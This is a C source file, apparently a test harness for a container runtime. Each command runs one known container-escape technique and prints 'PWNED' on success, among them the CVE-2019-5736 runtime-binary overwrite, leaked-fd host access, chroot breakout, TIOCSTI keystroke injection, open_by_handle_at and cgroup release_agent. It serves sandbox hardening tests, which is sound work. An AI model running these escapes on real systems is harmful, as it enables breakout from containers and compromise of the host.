// SPDX-License-Identifier: MIT
/* attack.c - what a hostile image tries: `attack NAME [ARG...]` prints "PWNED" when it worked, else
 * the reason why it did not.  Each works against a naive set-up, see tests/attack. */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define TRIES 2000 /* of 5 ms: a generous end for what should come at once */

static int verdict(int success)
{
	puts(success ? "PWNED" : strerror(errno));
	return success ? 0 : 1;
}

static void nap(void)
{
	nanosleep(&(struct timespec){ .tv_nsec = 5000000 }, NULL);
}

/* CVE-2019-5736: holds the program of its parent, ends that, and writes it. */
static int attack_exe(char **argv)
{
	char path[64];
	pid_t parent = getppid();
	int held, fd = -1;

	(void)argv;
	snprintf(path, sizeof(path), "/proc/%d/exe", parent);
	held = open(path, O_RDONLY);
	if (held < 0)
		return verdict(0);
	kill(parent, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (int i = 0; fd < 0 && i < TRIES; i++) {
		fd = open(path, O_WRONLY);
		if (fd < 0 && errno != ETXTBSY)
			break;
		nap();
	}
	return verdict(fd >= 0 && write(fd, "#!/bin/evil\n", 12) == 12);
}

/* CVE-2024-21626 and others: whatever directory of the host is open. */
static int attack_fd(char **argv)
{
	char path[64];

	for (int fd = 0; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, argv[0]);
		if (!access(path, F_OK))
			return verdict(1);
		snprintf(path, sizeof(path), "/proc/1/fd/%d/%s", fd, argv[0]);
		if (!access(path, F_OK))
			return verdict(1);
	}
	return verdict(0);
}

/* The classic way out of a chroot: FILE is one of the host. */
static int attack_chroot(char **argv)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/jail", 0755);
	if (fd < 0 || chroot("/tmp/jail") < 0 || fchdir(fd) < 0)
		return verdict(0);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return verdict(0);
	if (chroot(".") < 0)
		return verdict(0);
	return verdict(!access(argv[0], F_OK));
}

/* Takes the masks and the root off, and looks for FILE of the host below. */
static int attack_umount(char **argv)
{
	umount2("/", MNT_DETACH);
	if (!access(argv[0], F_OK))
		return verdict(1);
	return verdict(!umount2("/proc/keys", MNT_DETACH) ||
		!mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
}

/* What lies at the bottom of the mount namespace, under the root: FILE is there. */
static int attack_bottom(char **argv)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	umount2("/", MNT_DETACH);
	if (setns(ns, CLONE_NEWNS) < 0)
		return verdict(0);
	return verdict(!access(argv[0], F_OK));
}

static int type(unsigned long request)
{
	return !syscall(SYS_ioctl, STDIN_FILENO, request, "x");
}

static int attack_tiocsti(char **argv)
{
	(void)argv;
	return verdict(type(TIOCSTI));
}

/* CVE-2019-10063: a filter that compares 64 bits lets this through. */
static int attack_tiocsti64(char **argv)
{
	(void)argv;
	return verdict(type(0x100000000ul | TIOCSTI));
}

/* In a session of its own the terminal is nobody's, unless SYS_ADMIN asks. */
static int attack_setsid(char **argv)
{
	if (!fork()) {
		setsid();
		return attack_tiocsti(argv);
	}
	wait(NULL);
	return 0;
}

static int attack_shocker(char **argv)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 128];
	} h = { .handle.handle_bytes = 128 };
	int id, mnt = open("/", O_RDONLY | O_DIRECTORY);

	(void)argv;
	if (name_to_handle_at(AT_FDCWD, "/", &h.handle, &id, 0) < 0)
		return verdict(0);
	return verdict(open_by_handle_at(mnt, &h.handle, O_RDONLY) >= 0);
}

static int attack_mknod(char **argv)
{
	const char *path = argv[0];

	if (mknod(path, S_IFCHR | 0666, makedev(1, 3)) < 0)
		return verdict(0);
	return verdict(open(path, O_RDONLY) >= 0);
}

static int attack_write(char **argv)
{
	return verdict(open(argv[0], O_WRONLY) >= 0);
}

static int attack_key(char **argv)
{
	char buf[16];
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, -3 /* session */, "user", argv[0], 0);

	return verdict(key > 0 && syscall(SYS_keyctl, KEYCTL_READ, key, buf, sizeof(buf)) > 0);
}

/* Not an attack: `with-key NAME CMD...` runs CMD in a session that has one. */
static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
		syscall(SYS_add_key, "user", argv[0], "secret", 6ul, -3) < 0)
		return verdict(0);
	execvp(argv[1], argv + 1);
	return verdict(0);
}

static int attack_release_agent(char **argv)
{
	(void)argv;
	mkdir("/tmp/cg", 0755);
	if (mount("x", "/tmp/cg", "cgroup", 0, "memory") < 0 &&
		mount("x", "/tmp/cg", "cgroup", 0, "pids") < 0)
		return verdict(0);
	return verdict(open("/tmp/cg/release_agent", O_WRONLY) >= 0);
}

static int attack_userns(char **argv)
{
	(void)argv;
	return verdict(!unshare(CLONE_NEWUSER));
}

static int attack_clone_userns(char **argv)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	(void)argv;
	if (!pid)
		_exit(0);
	return verdict(pid > 0);
}

/* Not an attack: `join PID [HOW]` enters a container with the host's root open, as a tool of an
 * afternoon does, and stays there; HOW: as a process that cannot be traced. */
static int join(char **argv)
{
	int root = open("/", O_PATH | O_DIRECTORY), pid = atoi(argv[0]);
	int target = (int)syscall(SYS_pidfd_open, pid, 0);

	if (root < 0 || setns(target, CLONE_NEWPID | CLONE_NEWNS | (argv[1] ? CLONE_NEWUSER : 0)))
		return verdict(0);
	if (!fork()) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		prctl(PR_SET_NAME, "joiner");
		if (argv[1] && !strcmp(argv[1], "undumpable"))
			prctl(PR_SET_DUMPABLE, 0);
		puts("joined");
		pause();
	}
	return wait(NULL) < 0;
}

/* CVE-2016-9962: what of the host is in reach through a process that is about to join?  `spy NAME
 * MARKER`: the name of that process, and a file of the host below its root. */
static int spy_on(const char *proc, const char *marker)
{
	char path[512], environment[4096] = "";
	int fd;

	for (int n = 0; n < 32; n++) {
		snprintf(path, sizeof(path), "%s/fd/%d/%s", proc, n, marker);
		if (!access(path, F_OK))
			return 1;
		snprintf(path, sizeof(path), "%s/fd/%d/../1/root/%s", proc, n, marker);
		if (!access(path, F_OK))
			return 1;
	}
	snprintf(path, sizeof(path), "%s/root/%s", proc, marker);
	if (!access(path, F_OK))
		return 1;
	snprintf(path, sizeof(path), "%s/environ", proc);
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, environment, sizeof(environment) - 1) < 0)
		return 0;
	for (char *p = environment; p < environment + sizeof(environment) - 1; p++)
		if (!strncmp(p, "HOST_SECRET", 11))
			return 1;
	errno = ENOENT;
	return 0;
}

static int attack_spy(char **argv)
{
	char path[64], name[32];
	ssize_t n;

	for (int pid = 1; pid < 1000; pid++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/comm", pid);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, name, sizeof(name) - 1);
		close(fd);
		name[n < 1 ? 0 : n - 1] = '\0';
		if (strcmp(name, argv[0]) != 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d", pid);
		return verdict(spy_on(path, argv[1]));
	}
	errno = ESRCH;
	return verdict(0);
}

/* Exchanges a directory and a link until it is killed: `exchange A B`. */
static int exchange(char **argv)
{
	while (argv[0])
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
	return 0;
}

/* Not an attack: `pty CMD...` runs CMD on a new terminal and says whether something was typed. */
static int pty(char **argv)
{
	int typed = 0, master = posix_openpt(O_RDWR | O_NOCTTY), slave;
	struct termios raw;
	pid_t pid;

	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
		return verdict(0);
	slave = open(ptsname(master), O_RDWR | O_NOCTTY);
	if (slave < 0 || tcgetattr(slave, &raw) < 0)
		return verdict(0);
	cfmakeraw(&raw);
	tcsetattr(slave, TCSANOW, &raw);
	pid = fork();
	if (!pid) {
		setsid();
		ioctl(slave, TIOCSCTTY, 0);
		dup2(slave, STDIN_FILENO);
		close(master);
		close(slave);
		execvp(argv[0], argv);
		_exit(127);
	}
	waitpid(pid, NULL, 0);
	ioctl(slave, FIONREAD, &typed);
	puts(typed ? "typed" : "nothing typed");
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char **argv);
} attacks[] = {
	{ "exe", attack_exe },
	{ "fd", attack_fd },
	{ "chroot", attack_chroot },
	{ "umount", attack_umount },
	{ "bottom", attack_bottom },
	{ "tiocsti", attack_tiocsti },
	{ "tiocsti64", attack_tiocsti64 },
	{ "setsid", attack_setsid },
	{ "shocker", attack_shocker },
	{ "mknod", attack_mknod },
	{ "write", attack_write },
	{ "key", attack_key },
	{ "with-key", with_key },
	{ "release-agent", attack_release_agent },
	{ "userns", attack_userns },
	{ "clone-userns", attack_clone_userns },
	{ "join", join },
	{ "spy", attack_spy },
	{ "exchange", exchange },
	{ "pty", pty },
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (!strcmp(argv[1], attacks[i].name))
			return attacks[i].run(argv + 2);
	return 2;
}
